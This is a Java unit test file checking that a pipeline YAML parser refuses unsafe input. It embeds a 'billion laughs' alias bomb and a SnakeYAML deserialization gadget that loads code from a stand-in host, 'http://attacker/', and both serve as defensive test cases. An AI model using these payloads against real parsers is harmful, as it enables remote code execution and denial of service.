package dev.gort.common.pipeline;

import static dev.gort.common.pipeline.PipelineFiles.described;
import static dev.gort.common.pipeline.PipelineFiles.problems;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

class PipelineFileSafetyTest {

  @Test
  @Timeout(60)
  void anAliasBombIsRefusedWithAProblem() {
    String bomb =
        """
        a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
        b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
        c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
        d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
        e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
        f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
        g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
        h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
        i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
        """;

    assertThat(described(bomb))
        .containsExactly(
            "1:1: the file uses more than 10 aliases (*name) of lists or maps; repeat the values"
                + " instead");
  }

  @Test
  void aJavaTypeTagIsRefusedWithAProblemAtTheTaggedNode() {
    String file =
        """
        pipeline: demo
        stages: [build]
        jobs:
          compile:
            stage: build
            script: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker/"]]]]
        """;

    assertThat(described(file))
        .containsExactly(
            "6:13: the tag \"tag:yaml.org,2002:javax.script.ScriptEngineManager\" is not allowed;"
                + " a pipeline file holds only plain text, numbers, booleans, lists and maps");
  }

  @Test
  void aLocalOrGlobalCustomTagIsRefused() {
    assertThat(described("pipeline: !secret demo\n"))
        .singleElement()
        .asString()
        .startsWith("1:11: the tag \"!secret\" is not allowed");
    assertThat(problems("pipeline: !<tag:example.com,2024:x> demo\n")).hasSize(1);
    assertThat(described("pipeline: !!binary ZGVtbw==\n"))
        .singleElement()
        .asString()
        .startsWith("1:11: the tag \"tag:yaml.org,2002:binary\" is not allowed");
  }

  @Test
  void aMergeKeyIsRefusedWithAClearMessage() {
    String file =
        """
        pipeline: demo
        stages: [build]
        jobs:
          a: &base {stage: build, script: [make]}
          b: {<<: *base}
        """;

    assertThat(described(file))
        .containsExactly("5:7: merge keys (<<) are not supported; write the keys out");
  }

  @Test
  void aRecursiveAliasIsRefused() {
    assertThat(described("pipeline: p\nstages: &s [b, *s]\njobs: {j: {stage: b, script: [x]}}\n"))
        .containsExactly("2:9 stages[1]: stage name must be a name, found a list");
  }

  @Test
  void aFileOverTheSizeLimitIsRefusedWithOneProblem() {
    String file = "pipeline: demo\n# " + "x".repeat(PipelineParser.MAX_BYTES) + "\n";

    assertThat(described(file))
        .containsExactly(
            "1:1: the file is larger than 256 KiB (262144 bytes), the most a pipeline file may"
                + " have");
  }

  @Test
  void theSizeLimitCountsBytesNotCharacters() {
    String file = "pipeline: demo\n# " + "é".repeat(PipelineParser.MAX_BYTES / 2) + "\n";

    assertThat(problems(file)).hasSize(1);
  }

  @Test
  void invalidYamlIsAProblemAtWhereTheParserStopped() {
    assertThat(described("pipeline: demo\nstages: [build\njobs: {}\n"))
        .singleElement()
        .asString()
        .startsWith("3:5: not valid YAML: ");
  }

  @Test
  void moreThanOneDocumentIsRefused() {
    assertThat(described("pipeline: a\n---\npipeline: b\n"))
        .singleElement()
        .asString()
        .isEqualTo(
            "2:1: not valid YAML: expected a single document in the stream, but found another"
                + " document");
  }

  @Test
  void deepNestingIsRefusedWithAProblem() {
    assertThat(problems("pipeline: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n")).hasSize(1);
  }

  @Test
  @Timeout(60)
  void aLargeFileOfMistakesListsTheFirstHundredAndCountsTheRest() {
    StringBuilder file = new StringBuilder("pipeline: p\nstages: [b]\njobs:\n");
    for (int i = 0; i < 400; i++) {
      file.append("  j").append(i).append(": {stage: x, script: [], kind: y}\n");
    }

    PipelineValidationException refused =
        org.assertj.core.api.Assertions.catchThrowableOfType(
            () -> PipelineFiles.parse(file.toString()), PipelineValidationException.class);

    assertThat(refused.problems()).hasSize(100);
    assertThat(refused.total()).isEqualTo(1200);
    assertThat(refused.problems().get(0).line()).isEqualTo(4);
  }

  @Test
  @Timeout(60)
  void fiveHundredJobsWithDenseNeedsAreValidatedWithinTheTimeout() {
    StringBuilder file = new StringBuilder("pipeline: p\nstages: [b]\njobs:\n");
    StringBuilder needs = new StringBuilder();
    for (int i = 0; i < PipelineParser.MAX_JOBS; i++) {
      file.append("  j")
          .append(i)
          .append(": {stage: b, script: [x], needs: [")
          .append(needs)
          .append("]}\n");
      needs.append(needs.length() == 0 ? "" : ",").append("j").append(i);
      if (needs.length() > 400) {
        needs.setLength(0);
      }
    }
    assertThat(PipelineFiles.parse(file.toString()).jobs()).hasSize(PipelineParser.MAX_JOBS);
  }
}
